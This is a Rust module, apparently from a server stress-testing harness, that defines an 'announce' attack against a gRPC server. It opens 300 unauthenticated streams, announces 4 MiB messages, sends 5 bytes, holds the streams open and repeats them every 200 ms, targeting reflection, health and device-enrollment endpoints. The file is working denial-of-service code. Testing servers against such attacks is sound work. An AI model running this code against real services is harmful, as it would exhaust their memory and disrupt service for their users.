//! Messages that are announced and never come: a server that believes what it is told makes room for each of them.

use std::{net::Ipv4Addr, time::Duration};

use futures_util::FutureExt as _;
use tokio::task::JoinSet;

use super::{Attack, Target, attacker};
use crate::strangers::{RawCall, channel, ended};

/// Streams of the attack as it was first described.
const STREAMS: u32 = 300;
/// Streams of one connection.
const OF_ONE_CONNECTION: usize = 20;
/// What each of them announces.
const ANNOUNCED: u32 = 4 * 1024 * 1024;
/// How long a stream that was ended waits before it comes again.
const AGAIN: Duration = Duration::from_millis(200);

const PATHS: [&str; 3] = [
    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
    "/grpc.health.v1.Health/Watch",
    "/homepot.device.v1.DeviceService/Enroll",
];

/// From one address.
pub(super) const ANNOUNCE: Attack = Attack {
    name: "announce",
    about: "Opens 300 streams without credentials from one address, announces 4 MiB on each, sends 5 bytes, and repeats.",
    settings: &[],
    tls: false,
    run: |target| attack(target).boxed(),
};

async fn attack(target: Target) {
    let mut connections = JoinSet::new();
    for number in 0..target.size(STREAMS).div_ceil(OF_ONE_CONNECTION) {
        connections.spawn(hold(attacker(0), target.grpc_addr.clone(), number));
    }
    target.at_strength();
    while connections.join_next().await.is_some() {}
}

/// Keeps the streams of one connection up, each of them again and again.
async fn hold(from: Ipv4Addr, address: String, number: usize) {
    let channel = channel(from.into(), &address);
    let mut streams = JoinSet::new();
    for stream in 0..OF_ONE_CONNECTION {
        let mut channel = channel.clone();
        let call = RawCall::new(PATHS[(number + stream) % PATHS.len()]).message(ANNOUNCED, b"x").left_open();
        streams.spawn(async move {
            loop {
                if let Ok(body) = call.begin(&mut channel).await {
                    ended(body).await;
                }
                tokio::time::sleep(AGAIN).await;
            }
        });
    }
    while streams.join_next().await.is_some() {}
}
